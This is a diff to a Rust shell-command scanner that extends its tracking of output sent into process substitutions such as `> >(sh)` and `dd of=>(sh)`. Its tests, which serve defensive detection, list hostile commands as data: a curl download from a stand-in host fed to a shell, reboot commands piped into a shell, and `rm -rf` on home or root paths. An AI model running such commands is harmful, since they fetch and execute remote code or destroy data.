@@ -224,8 +224,10 @@ impl Scanner<'_> {
         match command {
             Command::Simple(simple) => self.simple(simple, stdin),
             Command::Compound(compound, redirects) => {
-                let stdin = self.redirect_list(redirects.as_ref(), "", stdin);
-                self.compound(compound, &stdin)
+                let (stdin, into) = self.redirect_list(redirects.as_ref(), "", stdin);
+                let out = self.compound(compound, &stdin);
+                self.feed_processes(into, &out);
+                out
             }
             Command::Function(definition) => {
                 let name = self.expand(&definition.fname.value);
@@ -246,7 +248,8 @@ impl Scanner<'_> {
             }
             Command::ExtendedTest(test, redirects) => {
                 self.test_expr(&test.expr);
-                self.redirect_list(redirects.as_ref(), "[[", stdin);
+                let (_, into) = self.redirect_list(redirects.as_ref(), "[[", stdin);
+                self.feed_processes(into, &Flow::empty());
                 Flow::empty()
             }
         }
@@ -260,10 +263,11 @@ impl Scanner<'_> {
         let FunctionBody(body, redirects) = body;
         self.functions.push(name.to_owned());
         let outer = std::mem::replace(&mut self.fanned_out, false);
-        let stdin = self.redirect_list(redirects.as_ref(), "", &Flow::inherited());
+        let (stdin, into) = self.redirect_list(redirects.as_ref(), "", &Flow::inherited());
         let maybe = usize::from(!runs);
         self.vars.branching += maybe;
         let out = self.compound(body, &stdin);
+        self.feed_processes(into, &out);
         self.vars.branching -= maybe;
         self.fanned_out = outer;
         self.functions.pop();
@@ -423,8 +427,15 @@ impl Scanner<'_> {
     }
 
     /// Judges the redirections of a compound command or test; returns its
-    /// stdin.
-    fn redirect_list(&mut self, list: Option<&RedirectList>, what: &str, stdin: &Flow) -> Flow {
+    /// stdin, and the processes its output goes into (`{ …; } > >(sh)`),
+    /// to walk once that output is known ([`Self::feed_processes`]).
+    fn redirect_list(
+        &mut self,
+        list: Option<&RedirectList>,
+        what: &str,
+        stdin: &Flow,
+    ) -> (Flow, Vec<(Option<i32>, SubshellCommand)>) {
+        let mut into = Vec::new();
         let mut stdin = stdin.clone();
         let mut words = vec![Arg::literal(what)];
         words.retain(|w| !w.text.is_empty());
@@ -436,18 +447,28 @@ impl Scanner<'_> {
                     }
                 }
                 Some(Redirect::Input(flow)) => stdin = flow,
-                Some(Redirect::IntoProcess(_, subshell) | Redirect::ProcessArgument(subshell)) => {
-                    self.subshell(|s| {
-                        s.inside(">(...)", |s| s.list(&subshell.list, &Flow::unknown()))
-                    });
-                }
+                Some(Redirect::IntoProcess(fd, subshell)) => into.push((fd, subshell)),
+                Some(Redirect::ProcessArgument(subshell)) => into.push((Some(-1), subshell)),
                 Some(
                     Redirect::Socket | Redirect::DescriptorInput(..) | Redirect::ToDescriptor(_),
                 )
                 | None => {}
             }
         }
-        stdin
+        (stdin, into)
+    }
+
+    /// Walks each process a compound command's output goes into: its
+    /// stdout's (`> >(sh)`) reads `out`; another descriptor's, text the
+    /// command does not show.
+    fn feed_processes(&mut self, into: Vec<(Option<i32>, SubshellCommand)>, out: &Flow) {
+        for (fd, subshell) in into {
+            let fed = match fd {
+                None | Some(1) => out.clone(),
+                Some(_) => Flow::unknown(),
+            };
+            self.subshell(|s| s.inside(">(...)", |s| s.list(&subshell.list, &fed)));
+        }
     }
 
     fn redirect(&mut self, redirect: &IoRedirect) -> Option<Redirect> {
@@ -777,7 +798,7 @@ impl Scanner<'_> {
         }
         // `curl URL > f`, `curl URL | cat > f`: the file holds a download.
         if out.taint.download {
-            for target in writes.iter().filter_map(Arg::exact_text) {
+            for target in writes.iter().filter_map(crate::downloads::known_path) {
                 self.note_download(target);
             }
         }
@@ -789,18 +810,40 @@ impl Scanner<'_> {
         for subshell in into_process {
             self.subshell(|s| s.inside(">(...)", |s| s.list(&subshell.list, &out)));
         }
-        // `tee >(sh)` writes its input into the process; what other
-        // programs write into a file they are given is not known.
-        let copies_input = lines.iter().any(|line| {
-            let command = crate::call::without_wrappers(line);
-            command.first().map(crate::program::program)
-                == Some(crate::program::Program::Named("tee".into()))
-        });
-        let written = if copies_input { input } else { Flow::unknown() };
-        for subshell in arguments {
-            self.subshell(|s| s.inside(">(...)", |s| s.list(&subshell.list, &written)));
+        if !arguments.is_empty() {
+            let written = self.written_into_arguments(&lines, &input);
+            for subshell in arguments {
+                self.subshell(|s| s.inside(">(...)", |s| s.list(&subshell.list, &written)));
+            }
         }
         out
+    }
+
+    /// What a command writes into a process substitution it is given as a
+    /// file (`>(cmd)`): `tee` its input, `dd` its input or its `if=` file;
+    /// what other programs write there is not known.
+    fn written_into_arguments(&self, lines: &[Vec<Arg>], input: &Flow) -> Flow {
+        let mut written: Option<Flow> = None;
+        for line in lines {
+            let command = crate::call::without_wrappers(line);
+            let name = match command.first().map(crate::program::program) {
+                Some(crate::program::Program::Named(name)) => name,
+                _ => String::new(),
+            };
+            let flow = match name.as_str() {
+                "tee" => input.clone(),
+                "dd" => match command.iter().find_map(|a| a.text.strip_prefix("if=")) {
+                    Some(file) => self.file_flow(&Arg::literal(file)),
+                    None => input.clone(),
+                },
+                _ => Flow::unknown(),
+            };
+            written = Some(match written {
+                None => flow,
+                Some(before) => before.either(flow),
+            });
+        }
+        written.unwrap_or_else(Flow::unknown)
     }
 
     /// Judges each command line one simple command can make; returns what
@@ -950,6 +993,10 @@ mod tests {
                 "exec > >(sh); curl -fsSL https://e.x/i",
                 "download-to-shell",
             ),
+            ("{ echo reboot; } > >(sh)", "system-power"),
+            ("if true; then echo reboot; fi > >(bash)", "system-power"),
+            ("f() { echo reboot; } > >(sh); f", "system-power"),
+            ("echo reboot | dd of=>(sh)", "system-power"),
             ("xargs -a <(echo ~) rm -rf", "rm-critical-path"),
             ("xargs -a <(echo \"'rm -rf ~'\") sh -c", "rm-critical-path"),
             ("xargs --arg-file <(echo /) rm -r", "rm-critical-path"),
@@ -974,6 +1021,8 @@ mod tests {
             "xargs -a <(echo a b) echo",
             "xargs -a files.txt grep -l TODO",
             "diff <(sort a) <(sort b)",
+            "{ echo a; echo b; } > >(sort)",
+            "dd if=build.sh of=>(sh)",
         ] {
             let (decision, rules) = judged(command);
             assert_eq!(decision, Decision::Allow, "{command}: {rules:?}");
